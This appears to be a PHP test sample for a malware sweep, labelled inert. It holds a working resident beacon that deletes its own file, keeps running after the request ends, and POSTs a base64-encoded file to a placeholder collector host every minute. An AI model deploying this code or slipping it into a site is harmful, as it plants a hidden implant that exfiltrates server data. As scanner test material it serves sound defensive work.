<?php
// sweep sample (inert): a resident beacon. It deletes itself, keeps running after the visitor
// leaves and, forever, posts the content of a file to another server once a minute. The file and
// the address are placeholders.
set_time_limit(0);
ignore_user_abort(true);
unlink(__FILE__);
$target = 'https://collector.example.invalid/in';
while (true) {
    $body = http_build_query(array('d' => base64_encode((string) @file_get_contents('/tmp/placeholder.txt'))));
    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'content' => $body, 'timeout' => 10)));
    @file_get_contents($target, false, $ctx);
    sleep(60);
}
